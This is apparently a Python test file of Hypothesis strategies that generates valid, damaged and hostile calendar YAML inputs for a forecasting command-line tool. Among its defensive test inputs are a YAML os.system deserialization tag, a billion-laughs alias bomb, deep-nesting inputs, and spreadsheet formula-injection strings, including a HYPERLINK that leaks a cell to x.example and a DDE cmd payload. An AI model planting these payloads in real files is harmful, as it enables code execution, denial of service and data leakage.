"""Calendar strategies: valid calendars (also used by the round-trip property test) and
calendar files damaged in every way the issue lists, each paired with a command.

A valid calendar is built as a Python mapping and dumped with PyYAML; damage is
done either to the mapping (bad keys, impossible or far dates, non-finite
numbers, huge values, wrong types) or to the text (aliases, nesting, tags,
encodings). Odd but valid text (BOM, CRLF, comments, flow style, anchors and
merge keys) must stay accepted.
"""

from __future__ import annotations

import copy
import datetime as dt
from typing import Any

import yaml
from hypothesis import strategies as st

from corpus import assets
from corpus.case import Case, Expect

WEEKDAYS = ("mon", "tue", "wed", "thu", "fri", "sat", "sun")
FORMULAS = (
    '=HYPERLINK("http://x.example/?q="&A1,"click")',
    "=1+2",
    "+41 promo",
    "-sale",
    "@home",
    "\tindented",
    "=cmd|' /C calc'!A0",
)


def _day(year: int, month: int, day: int, shift: int = 0) -> str:
    return (dt.date(year, month, day) + dt.timedelta(days=shift)).isoformat()


@st.composite
def _when(draw: st.DrawFn, years: tuple[int, int], rule: str) -> dict[str, Any]:
    first, last = years
    if rule == "fixed":
        return {"fixed": f"{draw(st.integers(1, 12)):02d}-{draw(st.integers(1, 28)):02d}"}
    if rule == "easter":
        return {"easter": draw(st.integers(-50, 60))}
    if rule == "weekday":
        return {
            "weekday": {
                "month": draw(st.integers(1, 12)),
                "day": draw(st.sampled_from(WEEKDAYS)),
                "nth": draw(st.sampled_from([1, 2, 3, 4, -1])),
            },
            **({"offset": draw(st.integers(-3, 3))} if draw(st.booleans()) else {}),
        }
    if rule == "span":
        start = dt.date(2001, draw(st.integers(1, 11)), draw(st.integers(1, 28)))
        end = start + dt.timedelta(days=draw(st.integers(1, 30)))
        return {"span": {"start": start.strftime("%m-%d"), "end": end.strftime("%m-%d")}}
    if rule == "every_weekday":
        return {
            "every_weekday": sorted(
                draw(st.sets(st.sampled_from(WEEKDAYS), min_size=1, max_size=2)), key=WEEKDAYS.index
            )
        }
    # dates: one explicit occurrence in some of the years, the odd one with a strength
    items: list[Any] = []
    for year in range(first, last + 1):
        if year == first or draw(st.booleans()):  # always one in the first year: the history has it
            start = dt.date(year, draw(st.integers(1, 12)), draw(st.integers(1, 20)))
            n = draw(st.integers(0, 8))
            if n == 0 and draw(st.booleans()):
                items.append(start.isoformat())
            else:
                item: dict[str, Any] = {
                    "start": start.isoformat(),
                    "end": (start + dt.timedelta(days=n)).isoformat(),
                }
                if draw(st.booleans()):
                    item["strength"] = draw(st.sampled_from([0.5, 1.5, 2]))
                items.append(item)
    return {"dates": items}


@st.composite
def events(
    draw: st.DrawFn, years: tuple[int, int], n: int | None = None, closures: bool = True
) -> list[dict[str, Any]]:
    """A list of valid events: every rule, moved and skipped occurrences, closures, assumed and
    borrowed lifts. The first event is always an estimated one (the others may borrow from it)."""
    first, last = years
    count = n if n is not None else draw(st.integers(1, 4))
    out: list[dict[str, Any]] = []
    for i in range(count):
        rules = ["fixed", "easter", "weekday", "span", "dates"] + (["every_weekday"] if i else [])
        rule = draw(st.sampled_from(rules))
        ev: dict[str, Any] = {"name": f"event-{i}-{rule}", "when": draw(_when(years, rule))}
        if draw(st.booleans()):
            ev["label"] = draw(
                st.sampled_from(
                    [
                        "Spring fair",
                        "Fête des mères",
                        "Bank holiday: late",
                        "Promo 2 for 1",
                        "Shutdown (plant)",
                    ]
                )
            )
        if rule in ("fixed", "easter", "weekday") and draw(st.booleans()):
            ev["length"] = draw(st.integers(1, 5))
        if rule != "every_weekday" and draw(st.booleans()):
            ev["before"] = draw(st.integers(0, 7))
            ev["after"] = draw(st.integers(0, 3))
            ev["shape"] = draw(st.sampled_from(["flat", "ramp", "decay"]))
        if rule in ("fixed", "weekday", "easter", "span") and last > first + 1:
            if draw(st.booleans()):
                ev["skip"] = [draw(st.integers(first + 1, last))]
            if draw(st.booleans()):
                year = draw(st.integers(first, last))
                if year not in ev.get("skip", []):
                    s = draw(st.integers(1, 300))
                    ev["moved"] = {
                        year: {
                            "start": _day(year, 1, 1, s),
                            "end": _day(year, 1, 1, s + draw(st.integers(0, 6))),
                        }
                    }
        kinds = ["estimate"] if i == 0 else ["estimate", "assume", "like"]
        if closures and i and rule in ("fixed", "easter", "span", "every_weekday", "weekday"):
            kinds.append("zero")
        kind = draw(st.sampled_from(kinds))
        if kind == "zero":
            ev["effect"] = "zero"
            ev.pop("shape", None), ev.pop("before", None), ev.pop("after", None)
        elif kind == "assume":
            ev["effect"] = {"assume": draw(st.sampled_from(["15%", "-20%", 5, "2.5%"]))}
        elif kind == "like":
            ev["effect"] = {"like": out[0]["name"]}
        out.append(ev)
    return out


@st.composite
def interventions(draw: st.DrawFn, years: tuple[int, int]) -> list[dict[str, Any]]:
    """Zero to two interventions inside the years (every type)."""
    first, last = years
    out: list[dict[str, Any]] = []
    for i in range(draw(st.integers(0, 2))):
        kind = draw(st.sampled_from(["level_shift", "pulse", "temporary", "ramp"]))
        start = dt.date(draw(st.integers(first, last)), draw(st.integers(1, 12)), draw(st.integers(1, 28)))
        item: dict[str, Any] = {"name": f"change-{i}", "type": kind, "start": start.isoformat()}
        if kind == "temporary":
            item["decay"] = draw(st.sampled_from([0.3, 0.6, 0.9]))
        if kind == "ramp":
            item["end"] = (start + dt.timedelta(days=draw(st.integers(7, 60)))).isoformat()
        out.append(item)
    return out


@st.composite
def calendars(
    draw: st.DrawFn, years: tuple[int, int], closures: bool = True, extras: bool = True
) -> dict[str, Any]:
    """A valid calendar mapping for histories over ``years`` (first, last)."""
    cal: dict[str, Any] = {
        "name": draw(st.sampled_from(["Synthetic calendar (invented)", "Test: odd", "Calendrier d'essai"])),
        "events": draw(events(years, closures=closures)),
    }
    if extras:
        iv = draw(interventions(years))
        if iv:
            cal["interventions"] = iv
        if draw(st.booleans()):
            y = draw(st.integers(years[0], years[1]))
            cal["exclude"] = [{"start": f"{y}-05-03", "end": f"{y}-05-20", "reason": "stock-out (invented)"}]
    return cal


def dump(cal: Any) -> str:
    return yaml.safe_dump(cal, sort_keys=False, allow_unicode=True)


# ------------------------------------------------------------------ damage

#: (name, verdict, function mapping -> mapping); verdict "bad" for every command, "bad_fit" for a
#: command that fits it to the demo history (the file itself is valid), "ok", or "any"
Damage = tuple[str, str, Any]


def _first(cal: dict[str, Any]) -> dict[str, Any]:
    return cal["events"][0]


def _set(path: str, value: Any):
    """Set ``value`` at a dotted path inside the first event (``when.easter``)."""

    def apply(cal: dict[str, Any]) -> dict[str, Any]:
        node = _first(cal)
        keys = path.split(".")
        for k in keys[:-1]:
            node = node.setdefault(k, {})
        node[keys[-1]] = value
        return cal

    return apply


def _replace_when(when: dict[str, Any]):
    return _set("when", when)


def _top(key: str, value: Any):
    def apply(cal: dict[str, Any]) -> dict[str, Any]:
        cal[key] = value
        return cal

    return apply


def _dup_name(cal: dict[str, Any]) -> dict[str, Any]:
    cal["events"].append(copy.deepcopy(_first(cal)))
    return cal


def _formula(field: str, text: str):
    def apply(cal: dict[str, Any]) -> dict[str, Any]:
        old = _first(cal).get(field)
        _first(cal)[field] = text
        if field == "name":  # a renamed event keeps the events that borrow its lift (a valid calendar)
            for ev in cal["events"][1:]:
                effect = ev.get("effect")
                if isinstance(effect, dict) and effect.get("like") == old:
                    effect["like"] = text
        return cal

    return apply


def _huge_label(n: int):
    return _set("label", "x" * n)


NON_FINITE = (float("inf"), float("-inf"), float("nan"), "inf", "nan", "Infinity", "1e999", "1e999%", "-inf%")
FAR_DATES = ("9999-12-31", "1850-06-01", "2201-01-01", "0001-01-01", "1899-12-31", "2262-04-12")


def damages() -> list[Damage]:
    """Every mapping-level damage, named; each is one of the issue's bad (or odd) inputs."""
    out: list[Damage] = [
        ("unknown event key", "bad", _set("whne", {"fixed": "12-24"})),
        ("misspelt rule", "bad", _replace_when({"fixd": "12-24"})),
        ("two rules in one when", "bad", _replace_when({"fixed": "12-24", "easter": 0})),
        ("impossible date", "bad", _replace_when({"dates": ["2023-02-30"]})),
        ("impossible month-day", "bad", _replace_when({"fixed": "02-30"})),
        ("month 13", "bad", _replace_when({"fixed": "13-01"})),
        ("date as a number", "bad", _replace_when({"dates": [20230301]})),
        ("end before start", "bad", _replace_when({"dates": [{"start": "2023-03-10", "end": "2023-03-01"}]})),
        ("duplicate event name", "bad", _dup_name),
        ("like an unknown event", "bad", _set("effect", {"like": "no-such-event"})),
        ("like itself", "bad", lambda c: _set("effect", {"like": _first(c)["name"]})(c)),
        ("length as text", "bad", _set("length", "three")),
        ("when as text", "bad", _set("when", "easter")),
        ("events as a mapping", "bad", _top("events", {"a": 1})),
        ("name is a list", "bad", _set("name", ["a", "b"])),
        ("no name", "bad", lambda c: (_first(c).pop("name"), c)[1]),
        ("weekday nth 0", "bad", _replace_when({"weekday": {"month": 5, "day": "mon", "nth": 0}})),
        ("weekday 'someday'", "bad", _replace_when({"weekday": {"month": 5, "day": "someday", "nth": 1}})),
        ("years every 0", "bad", _set("years", {"every": 0, "start": 2020})),
        ("huge length", "bad", _set("length", 10**30)),
        ("huge before", "bad", _set("before", 10**12)),
        ("huge easter offset", "bad", _replace_when({"easter": 10**9})),
        ("huge year in skip", "bad", _set("skip", [10**20])),
        ("huge every", "any", _set("years", {"every": 10**9, "start": 2020})),
        (
            "ramp without end",
            "bad",
            _top("interventions", [{"name": "r", "type": "ramp", "start": "2022-01-01"}]),
        ),
        (
            "decay 1.5",
            "bad",
            _top("interventions", [{"name": "t", "type": "temporary", "start": "2022-01-01", "decay": 1.5}]),
        ),
        (
            "unknown intervention type",
            "bad",
            _top("interventions", [{"name": "x", "type": "blip", "start": "2022-01-01"}]),
        ),
        (
            "exclusion end before start",
            "bad",
            _top("exclude", [{"start": "2022-05-01", "end": "2022-04-01", "reason": "x"}]),
        ),
        ("unknown country", "bad", _top("public_holidays", {"country": "XX"})),
        ("unknown holiday name", "bad", _replace_when({"holiday": "Christmass Day"})),
        (
            "exclusion covering the whole history",
            "bad_fit",
            _top("exclude", [{"start": "2000-01-01", "end": "2030-12-31", "reason": "everything"}]),
        ),
        ("no events at all", "any", _top("events", [])),
        ("huge label (1 MB)", "any", _huge_label(1_000_000)),
        ("strength 1e300", "any", _replace_when({"dates": [{"start": "2023-03-01", "strength": 1e300}]})),
    ]
    for v in NON_FINITE:
        out.append((f"assume: {v}", "bad", _set("effect", {"assume": v})))
    for v in (float("inf"), float("nan"), "nan", "inf", -1, 0):
        out.append(
            (f"strength: {v}", "bad", _replace_when({"dates": [{"start": "2023-03-01", "strength": v}]}))
        )
    for v in (float("inf"), float("nan"), "inf"):
        out.append(
            (
                f"decay: {v}",
                "bad",
                _top(
                    "interventions", [{"name": "t", "type": "temporary", "start": "2022-01-01", "decay": v}]
                ),
            )
        )
    for d in FAR_DATES:
        out.append((f"occurrence date {d}", "bad", _replace_when({"dates": [d]})))
        out.append(
            (
                f"intervention start {d}",
                "bad",
                _top("interventions", [{"name": "s", "type": "level_shift", "start": d}]),
            )
        )
        out.append(
            (
                f"exclusion ending {d}",
                "bad",
                _top("exclude", [{"start": "2022-01-01", "end": d, "reason": "x"}]),
            )
        )
        out.append((f"moved to {d}", "bad", _set("moved", {2023: {"start": d, "end": d}})))
    for text in FORMULAS:
        out.append((f"formula-like name {text[:12]!r}", "ok", _formula("name", text)))
        out.append((f"formula-like label {text[:12]!r}", "ok", _formula("label", text)))
        out.append((f"formula-like group {text[:12]!r}", "ok", _formula("group", text)))
    return out


# ------------------------------------------------------------------ text-level inputs


def billion_laughs(depth: int, width: int = 9) -> str:
    """A calendar whose name expands to ``width ** depth`` strings through nested aliases."""
    lines = ['a0: &a0 "lol"']
    for i in range(1, depth + 1):
        lines.append(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * width)}]")
    lines.append(f"name: *a{depth}")
    lines.append('events: [{name: e, when: {fixed: "12-24"}}]')
    return "\n".join(lines) + "\n"


def deep_nesting(depth: int, bracket: str) -> str:
    close = {"[": "]", "{": "}"}[bracket]
    inner = (bracket + ("a: " if bracket == "{" else "")) * depth + "1" + close * depth
    return f'name: deep\nevents: [{{name: e, when: {{fixed: "12-24"}}}}]\nextra: {inner}\n'


#: (name, verdict, function text -> text-or-bytes) on a valid calendar's YAML text
TextDamage = tuple[str, str, Any]


def _comments(text: str) -> str:
    return "# a comment line\n" + "".join(
        f"{ln}   # note {i}\n"
        if ln.strip() and not ln.rstrip().endswith(("|", ">")) and "#" not in ln
        else ln + "\n"
        for i, ln in enumerate(text.splitlines())
    )


def text_damages() -> list[TextDamage]:
    return [
        ("BOM", "ok", lambda t: "\ufeff" + t),
        ("CRLF line ends", "ok", lambda t: t.replace("\n", "\r\n")),
        ("BOM and CRLF", "ok", lambda t: "\ufeff" + t.replace("\n", "\r\n")),
        ("comments everywhere", "ok", _comments),
        (
            "flow style",
            "ok",
            lambda t: yaml.safe_dump(
                yaml.safe_load(t), default_flow_style=True, sort_keys=False, width=10**6
            ),
        ),
        (
            "anchor and merge key",
            "ok",
            # an anchored event and one merged from it (an unknown top-level key would be refused)
            lambda t: t.replace(
                "events:",
                "events:\n- &anchored {name: anchored-event, when: {fixed: '12-24'}, before: 1}\n"
                "- {<<: *anchored, name: merged-event}",
                1,
            ),
        ),
        (
            "YAML tag !!python/object/apply",
            "bad",
            lambda t: t + 'extra: !!python/object/apply:os.system ["echo owned"]\n',
        ),
        ("custom tag", "bad", lambda t: t.replace("name:", "name: !custom", 1)),
        ("binary tag", "bad", lambda t: t + "extra: !!binary aGVsbG8=\n"),
        ("latin-1 bytes", "bad", lambda t: (t + "# caf\xe9\n").encode("latin-1", "replace")),
        ("NUL byte", "bad", lambda t: t.replace("name:", "na\x00me:", 1)),
        ("tab indentation", "bad", lambda t: t.replace("\n  ", "\n\t", 1)),
        ("empty file", "bad", lambda t: ""),
        ("only a comment", "bad", lambda t: "# nothing here\n"),
        ("a list at the top", "bad", lambda t: "- a\n- b\n"),
        ("a scalar at the top", "bad", lambda t: "just text\n"),
        ("unclosed bracket", "bad", lambda t: t + "extra: [1, 2\n"),
        ("duplicate top-level key", "any", lambda t: t + "name: second name\n"),
        ("5 MB of comments", "any", lambda t: t + ("# " + "y" * 98 + "\n") * 50_000),
    ]


# ------------------------------------------------------------------ cases


def _commands(
    kind_of_input: str,
) -> list[tuple[str, tuple[str, ...], tuple[str, ...], tuple[tuple[str, ...], ...]]]:
    """(command name, argv, writes, follow-ups) for a calendar at ``cal.yaml``."""
    y = str(assets.PLAN_YEAR)
    return [
        ("check", ("calendar", "check", "cal.yaml"), (), ()),
        (
            "dates",
            ("calendar", "dates", "cal.yaml", "--from", "2024", "--to", "2026", "--out", "dates.csv"),
            ("dates.csv",),
            (),
        ),
        (
            "fit",
            ("fit", "sales.csv", "-c", "cal.yaml", "--errors", "ols", "--out", "m"),
            ("m", "plan.xlsx"),
            (
                (
                    "plan",
                    "m",
                    "--from",
                    f"{y}-01-01",
                    "--to",
                    f"{y}-12-31",
                    "--out",
                    "plan.xlsx",
                    "--sims",
                    "20",
                ),
            ),
        ),
        (
            "plan",
            (
                "plan",
                "model",
                "-c",
                "cal.yaml",
                "--from",
                f"{y}-01-01",
                "--to",
                f"{y}-12-31",
                "--new-events",
                "zero",
                "--sims",
                "20",
                "--out",
                "plan.csv",
            ),
            ("plan.csv",),
            (),
        ),
    ]


def _expect(verdict: str, command: str) -> Expect:
    if verdict == "bad_fit":
        return "bad" if command == "fit" else "any" if command == "plan" else "ok"
    return verdict  # type: ignore[return-value]


DEMO_YEARS = (2020, 2026)


@st.composite
def _base_calendar(draw: st.DrawFn) -> dict[str, Any]:
    if draw(st.integers(0, 3)) == 0:
        source = draw(st.sampled_from([assets.demo_calendar(), assets.garden_calendar()]))
        return yaml.safe_load(source)
    return draw(calendars(DEMO_YEARS))


@st.composite
def calendar_cases(draw: st.DrawFn) -> Case:
    """A calendar (valid, odd, damaged or hostile) and one command that reads it."""
    base = draw(_base_calendar())
    mode = draw(st.sampled_from(["valid", "damage", "damage", "damage", "text", "text", "laughs", "nesting"]))
    command, argv, writes, follow = draw(st.sampled_from(_commands("calendar")))
    if mode == "valid":
        name, verdict, data = "valid generated calendar", "ok", dump(base).encode()
    elif mode == "damage":
        name, verdict, fn = draw(st.sampled_from(damages()))
        data = dump(fn(copy.deepcopy(base))).encode()
    elif mode == "text":
        name, verdict, fn = draw(st.sampled_from(text_damages()))
        text = fn(dump(base))
        data = text if isinstance(text, bytes) else text.encode("utf-8")
    elif mode == "laughs":
        depth = draw(st.integers(4, 12))
        name, verdict, data = f"billion laughs, {depth} levels", "bad", billion_laughs(depth).encode()
    else:
        depth = draw(st.sampled_from([100, 1000, 5000, 20000, 100_000]))
        bracket = draw(st.sampled_from(["[", "{"]))
        name, verdict = f"nesting {depth} levels of {bracket}", "bad" if depth >= 1000 else "any"
        data = deep_nesting(depth, bracket).encode()
    expect = _expect(verdict, command)
    files: list[tuple[str, bytes]] = [("cal.yaml", data)]
    if command == "fit":
        files.append(("sales.csv", assets.demo_history()))
    if command == "plan":
        files += [(f"model/{p}", b) for p, b in assets.base_model()]
    return Case(
        "calendar",
        f"calendar {command}: {name}",
        argv,
        tuple(files),
        expect,
        writes,
        follow=follow if expect != "bad" else (),
    )
